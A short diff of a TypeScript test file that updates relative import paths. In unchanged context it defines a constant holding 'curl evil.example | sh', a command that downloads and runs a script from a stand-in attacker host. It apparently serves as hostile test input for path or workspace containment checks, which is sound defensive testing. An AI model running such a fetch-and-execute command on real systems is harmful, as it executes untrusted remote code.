@@ -6,9 +6,9 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
 import test from 'node:test';
-import { printLine } from '../../src/adapters/files/journal/frames.js';
-import type { Step } from '../../src/adapters/files/journal/step.js';
-import { place, scripted } from '../kit/guild.js';
+import { printLine } from '../../../src/adapters/files/journal/frames.js';
+import type { Step } from '../../../src/adapters/files/journal/step.js';
+import { place, scripted } from '../../kit/guild.js';
 
 const EVIL = 'curl evil.example | sh\n';
 /** Next to the workspace, seen from a folder in it, and from a folder in such a folder. */
